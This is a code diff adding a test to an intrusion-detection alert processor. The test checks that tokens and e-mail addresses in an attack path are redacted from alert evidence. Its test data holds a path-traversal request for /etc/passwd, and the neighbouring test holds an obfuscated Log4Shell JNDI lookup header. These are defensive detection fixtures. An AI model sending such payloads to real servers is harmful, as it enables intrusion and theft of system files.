@@ -203,6 +203,25 @@ def test_attack_strings(path: str, kind: str) -> None:
     assert creates[0]["evidences"][0]["data"]["path"] == path.split("?")[0]
 
 
+def test_attack_evidence_paths_hold_no_credentials_like_routes() -> None:
+    """An attack path that carries a JWT and an e-mail address: the alert's evidence and the state (its
+    snapshot) hold the placeholders route templates use, the attack text stays."""
+    jwt = "eyJ" + "hbGciOiJIUzI1NiJ9." + "eyJ" + "zdWIiOiJhbm4ifQ.c2lnbmF0dXJlMTIzNDU2Nzg5MA"
+    path = f"/files/{jwt}/ann%40example.com/../../../../etc/passwd"
+    req = packets([{"ts": T0 + 9 * SEC, "src": "198.51.100.4", "dst": "10.1.0.10", "sport": 41000, "dport": 80,
+                    "flags": 0x18, "len": 300, "payload": http_get(path)}], payload_width=256)
+    p = AlertsProcessor(load_rules(None, RULES), Catalog.from_data(CATALOG))
+    s = p.new_state()
+    for part in p.route(p.featurize(read_container(containers(req)[0]), "gen/eth0"), 1).values():
+        p.process(s, features.decode(features.encode(features.compact(part))))
+    state = snapshot.pack(p.dump(s)).decode("latin-1")
+    docs = [o.record for o in p.close(s, FOREVER)]
+    (create,) = [d for d in docs if d["activity_id"] == 1]
+    assert create["evidences"][0]["data"]["path"] == "/files/{token}/{email}/../../../../etc/passwd"
+    for secret in (jwt, "ann%40example.com", "ann@example.com"):
+        assert secret not in state and secret not in json.dumps(docs)
+
+
 def test_header_jndi_obfuscated() -> None:
     p = http_get("/", extra="User-Agent: ${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}\r\n")
     assert attacks.scan(p) & attacks.JNDI
